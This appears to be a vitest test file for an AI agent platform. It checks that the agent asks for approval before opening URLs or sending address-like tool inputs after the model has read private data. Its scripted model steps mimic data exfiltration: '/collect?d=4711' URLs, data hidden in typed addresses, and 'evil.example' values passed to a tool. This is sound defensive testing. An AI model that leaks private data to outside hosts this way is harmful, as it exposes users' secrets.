import type { AgentSettings, RunProgress } from 'shared-contracts';
import { giveAccess } from 'shared-contracts/access-calls';
import { connectAgentServer, decideApproval, listApprovals, saveAgentSettings } from 'shared-contracts/agent-calls';
import { completeChat, createAgent, listAlerts, runEvents } from 'shared-contracts/calls';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { appWithModel } from '../../../../testing/app-with-user.ts';
import { type FeedServer, startFeedServer } from '../../../../testing/feed-server.ts';
import { startToolServer, type TestToolServer } from '../../../../testing/mcp-server.ts';
import type { Step } from '../../../../testing/scripted-provider.ts';
import { addressOf } from '../../../../testing/test-app.ts';
import { workspaceOf } from '../../../../testing/workspace-of.ts';

const { api, provider, user } = appWithModel({ OUTBOUND_LOOPBACK: 'allow' });
let office: TestToolServer;
let site: FeedServer;
let agentId: string;

beforeAll(async () => {
  [office, site] = await Promise.all([startToolServer(), startFeedServer()]);
  site.serve('/page', { body: 'A page.', headers: { 'content-type': 'text/plain' } });
});
afterAll(() => Promise.all([office.close(), site.close()]));
beforeEach(async () => {
  provider.script = [{ text: 'Done.' }, { finish: true }];
  const fields = { name: 'Clerk', description: 'Does the post.', instructions: 'Be exact.', starters: [] };
  agentId = (await api.call(createAgent, { body: { email: user.email, ...fields } }, user)).body.agent_id;
  await allow('read_web_page', 'search_works');
});

const page = (address: string): Step[] => [{ call: 'read_web_page', input: { url: address } }];
const search: Step[] = [{ call: 'search_works', input: { question: 'What is the door code?' } }];

/** Allows the actions, with the setting that asks for no approval at all. */
const allow = (...allowedActions: string[]) => {
  const body: Partial<AgentSettings> = {
    apps: { usesOwnFiles: true, usesWorks: true, allowedActions },
    decisions: { approval: 'nothing', guidance: '' },
  };
  return api.call(saveAgentSettings, { query: { agent_id: agentId }, body }, user);
};
const ask = async (message: string, sessionId?: string, more: object = {}) => {
  const session = sessionId === undefined ? {} : { session_id: sessionId };
  const body = { email: user.email, message, agent_id: agentId, model: 'scripted', ...session, ...more };
  return (await api.call(completeChat, { body }, user)).body;
};

/** Returns the inputs that the agent asked about during its answer, refusing each one. */
async function askedAbout(message: string, sessionId?: string, more: object = {}, rest = false): Promise<unknown[]> {
  const asked: unknown[] = [];
  let isAnswered = false;
  const answer = ask(message, sessionId, more).finally(() => {
    isAnswered = true;
  });
  await expect
    .poll(async () => {
      const { body } = await api.call(listApprovals, { query: { email: user.email } }, user);
      for (const { approval_id, input } of body.approvals) {
        asked.push(input);
        await api.call(decideApproval, { query: { approval_id }, body: { decision: 'refused', rest } }, user);
      }
      return isAnswered;
    })
    .toBe(true);
  expect(await answer).toMatchObject({ message: 'Done.', status: 'complete' });
  return asked;
}

it('asks before it opens an address that the model wrote after reading private text, whatever the setting', async () => {
  const leak = site.url('/collect?d=4711');
  provider.first = [search, page(leak)];
  expect(await askedAbout(`Summarize ${site.url('/page')}`)).toEqual([{ url: leak }]);
  expect(site.requests('/collect?d=4711')).toEqual([]);
  expect(JSON.stringify(provider.requests.at(-1)?.messages.at(-1))).toContain('did not allow');
});

it.each([
  ['asks about each again', false, 3],
  ['asks about nothing more once everything was refused, and does none of it', true, 1],
])('%s', async (_, rest, count) => {
  const leaks = [1, 2, 3].map((at) => site.url(`/collect?rest=${rest}&d=${at}`));
  provider.first = [search, ...leaks.map(page)];
  expect(await askedAbout(`Summarize ${site.url('/page')}`, undefined, {}, rest)).toEqual(leaks.slice(0, count).map((url) => ({ url })));
  expect(leaks.flatMap((url) => site.requests(url.slice(site.url('').length)))).toEqual([]);
  // The next answer asks again.
  provider.first = [search, page(site.url('/collect?next'))];
  expect(await askedAbout('Go on.', undefined, {})).toHaveLength(1);
});

describe('several actions of one turn', () => {
  const leaks = (name: string) => [1, 2, 3].map((at) => site.url(`/collect?together=${name}&d=${at}`));
  const waiting = async () => (await api.call(listApprovals, { query: { email: user.email } }, user)).body.approvals;
  /** Lets the model open three addresses in one turn. Returns the approvals once all three wait. */
  async function begin(name: string) {
    const [first, ...others] = leaks(name).map((url) => ({ url }));
    const also = others.map((input) => ({ call: 'read_web_page', input }));
    provider.first = [search, [{ call: 'read_web_page', input: first, also }]];
    const answer = ask(`Summarize ${site.url('/page')}`);
    await expect.poll(async () => (await waiting()).length).toBe(3);
    // Asked about in the same moment, so in no order of time.
    const asked = (await waiting()).toSorted((one, other) => JSON.stringify(one.input).localeCompare(JSON.stringify(other.input)));
    return { answer, asked };
  }
  const decide = (approval_id: string, body: { decision: 'approved' | 'refused'; rest?: boolean }) =>
    api.call(decideApproval, { query: { approval_id }, body }, user);
  const opened = (name: string) => leaks(name).map((url) => site.requests(url.slice(site.url('').length)).length);

  it('are asked about at once, shown together, and done only where that was allowed', async () => {
    const { answer, asked } = await begin('some');
    expect(asked.map(({ input }) => input)).toEqual(leaks('some').map((url) => ({ url })));
    expect(opened('some')).toEqual([0, 0, 0]);
    const [first, second, third] = asked.map(({ approval_id }) => approval_id);
    await decide(second ?? '', { decision: 'approved' });
    await decide(third ?? '', { decision: 'refused' });
    expect(opened('some')).toEqual([0, 0, 0]);
    await decide(first ?? '', { decision: 'refused' });
    expect(await answer).toMatchObject({ status: 'complete' });
    expect(opened('some')).toEqual([0, 1, 0]);
    const url = addressOf(runEvents, { params: { run_id: asked[0]?.run_id } });
    const { body } = await api.app.inject({ url, headers: { authorization: `Bearer ${user.token}`, accept: 'text/event-stream' } });
    const events = [...body.matchAll(/^data: (.*)$/gm)].map(([, data = '']) => JSON.parse(data) as Partial<RunProgress>);
    const shown = events.flatMap(({ approval, others = [] }) => (approval ? [[approval, ...others.map((other) => other.approval)]] : []));
    expect(shown.map(({ length }) => length)).toEqual([1, 2, 3, 2, 1]);
    expect(shown[2]?.map(({ approval_id }) => approval_id)).toEqual([first, second, third]);
  });

  it('are all refused at once', async () => {
    const { answer, asked } = await begin('none');
    const readAlerts = async () => (await api.call(listAlerts, { query: { email: user.email } }, user)).body.alerts;
    const ids = asked.map(({ approval_id }) => approval_id);
    await expect.poll(async () => (await readAlerts()).map(({ approval_id }) => approval_id)).toEqual(expect.arrayContaining(ids));
    await decide(asked[1]?.approval_id ?? '', { decision: 'refused', rest: true });
    expect(await waiting()).toEqual([]);
    expect(await answer).toMatchObject({ status: 'complete' });
    expect(opened('none')).toEqual([0, 0, 0]);
  });
});

it('opens an address that the user typed, and any address until something private was read', async () => {
  provider.first = [page(site.url('/first')), search, page(site.url('/page'))];
  expect(await askedAbout(`Summarize <${site.url('/page')}>, please.`)).toEqual([]);
  expect([site.requests('/first').length, site.requests('/page').length]).toEqual([1, 1]);
});

it.each([
  ['brackets', (typed: string) => `${typed}(4711)`],
  ['a tab that clients drop', (typed: string) => `${typed}\t4711`],
  ['a space', (typed: string) => `${typed} 4711`],
  ['a user name', (typed: string) => typed.replace('http://', 'http://4711@')],
  ['a fragment', (typed: string) => `${typed}#4711`],
])('asks when the model extends the typed address with %s', async (_, hide) => {
  const address = hide(site.url('/page'));
  provider.first = [search, page(address)];
  expect(await askedAbout(`Summarize ${site.url('/page')}`)).toEqual([{ url: address }]);
});

it('asks when an earlier answer may contain what was read then', async () => {
  const { session_id } = await ask('What is the door code?');
  const leak = site.url('/collect?d=4712');
  provider.first = [page(leak)];
  expect(await askedAbout('Go on.', session_id ?? '')).toEqual([{ url: leak }]);
  expect(site.requests('/collect?d=4712')).toEqual([]);
});

it('asks before sending an address to a connected server, but not for other input', async () => {
  const body = { name: 'Post', server_url: office.url, server_key: 'sk-post' };
  await api.call(connectAgentServer, { query: { agent_id: agentId }, body }, user);
  await allow('Post/postage', 'search_works');
  const postage = (country: string): Step[] => [{ call: 'Post_postage', input: { country } }];
  const leaks = ['evil.example/?d=4711', 'see https://evil.example/4711', '//evil.example/4711', 'www.4711.example'];
  provider.first = [search, postage('Norway'), ...leaks.map(postage)];
  expect(await askedAbout('What does a letter cost?')).toEqual(leaks.map((country) => ({ country })));
});

describe('a co-author’s words', () => {
  const named = () => site.url('/named');
  /** Lets somebody with edit rights write in a chat of the user, and returns it with their answer. */
  async function coauthored(message: string, more: object = {}) {
    const mate = await api.newUser();
    await workspaceOf(api, user, [mate, 'Member']);
    const id = (await ask('Hello.', undefined, { agent_id: undefined })).session_id ?? '';
    const grantee = { kind: 'person' as const, id: mate.email };
    await api.call(giveAccess, { body: { email: user.email, kind: 'chat', id, grantee, level: 'edit' } }, user);
    const body = { email: mate.email, message, model: 'scripted', session_id: id, ...more };
    const answer = (await api.call(completeChat, { body }, mate)).body;
    expect(answer).toMatchObject({ status: 'complete' });
    return { id, answerId: answer.message_id };
  }

  it('don’t count as the asker’s in a later question', async () => {
    const { id } = await coauthored(`Look at ${named()}`);
    provider.first = [search, page(named())];
    expect(await askedAbout('Go on.', id)).toEqual([{ url: named() }]);
    expect(site.requests('/named')).toEqual([]);
  });

  it('don’t count when their question is answered again', async () => {
    const { id, answerId } = await coauthored(`Look at ${named()}`);
    provider.first = [search, page(named())];
    expect(await askedAbout('Again.', id, { regenerates: answerId })).toEqual([{ url: named() }]);
  });

  it('leave the asker’s own words as they are', async () => {
    const { id } = await coauthored('Look around.');
    provider.first = [search, page(site.url('/page'))];
    expect(await askedAbout(`Look at ${site.url('/page')}`, id)).toEqual([]);
  });
});
